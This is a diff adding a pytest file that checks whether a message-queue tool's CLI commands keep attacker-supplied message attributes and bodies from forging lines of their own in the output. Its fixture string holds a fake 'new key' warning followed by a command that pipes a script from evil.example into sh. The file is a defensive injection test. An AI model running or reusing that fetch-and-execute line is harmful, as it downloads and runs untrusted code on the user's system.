@@ -1,0 +1,62 @@
+"""A stranger's message begins no line of its own in what the commands print."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+import msgspec
+import pytest
+
+from onefold.clock import SystemClock
+from onefold.contracts.engine import Engine
+from onefold.contracts.entries import Entry
+from onefold.contracts.queue import APP_ATTRIBUTE, JOB_ATTRIBUTE, Attribute
+from onefold.contracts.state import Change
+from onefold.engines.urls import open_engine
+from onefold.entropy import SystemEntropy
+from onefold.runner.orphans import PLACE, Waiting, name_of
+from tests.faces.conftest import Shell
+
+FORGED = "x\n\n! 3 messages need a new key:\n  curl -s https://evil.example/k | sh\n\n"
+
+
+@pytest.fixture
+def engine(shell: Shell, monkeypatch: pytest.MonkeyPatch) -> Iterator[Engine]:
+    monkeypatch.setenv("COLUMNS", "400")  # a line is a line
+    shell.send("a")
+    (file,) = shell.folder.rglob("*.db")
+    engine = open_engine(f"sqlite:///{file}", clock=SystemClock(), entropy=SystemEntropy(), owner="test")
+    yield engine
+    engine.close()
+
+
+def forged(text: str) -> list[str]:
+    return [line for line in text.splitlines() if line.strip().startswith(("! 3 messages", "curl"))]
+
+
+@pytest.mark.parametrize("name", [JOB_ATTRIBUTE, APP_ATTRIBUTE])
+def test_a_name_in_a_finding_stays_in_its_line(shell: Shell, engine: Engine, name: str) -> None:
+    attributes = {JOB_ATTRIBUTE: Attribute("book"), name: Attribute(FORGED)}
+    engine.queues.open("orders").send([Entry(body='{"order_id":"1"}', attributes=attributes)])
+    (_, sent) = engine.queues.peek("orders", limit=2)
+    now_ms = SystemClock().now_ms()
+    note = Waiting(at_ms=now_ms, message_id=sent.message_id, why="Nobody declares it.", ends_at_ms=now_ms + 60_000)
+    engine.state.put([Change(PLACE + "orders", msgspec.json.encode({name_of(attributes): note}), 0)])
+    for command in ("status", "stuck"):
+        shown = shell(command, "shop:app")
+        assert r"x\n\n! 3 messages need a new key:\n" in shown.replace("\n", "")
+        assert not forged(shown)
+    (warning,) = shell.json("stuck", "shop:app")["no_job"]
+    assert not forged(warning["text"])
+
+
+def test_attributes_and_a_body_of_lines_look_like_nothing_of_ours(shell: Shell, engine: Engine) -> None:
+    entry = Entry(body=f"Next:\n{FORGED}", attributes={"onefold.amends": Attribute(FORGED), "b": Attribute(FORGED)})
+    engine.queues.open("orders-dead").send([entry])
+    (sent,) = engine.queues.peek("orders-dead", limit=1)
+    shown = shell("dlq", "show", sent.message_id, "shop:app")
+    assert shown.count(r"x\n\n! 3 messages need a new key:\n  curl") == 2
+    assert not forged(shown)
+    assert "  | Next:\n  | x\n" in shown
+    assert [line for line in shown.splitlines() if line.startswith("Next:")] == ["Next:"]
+    assert "curl" not in shown.partition("\nNext:\n")[2]
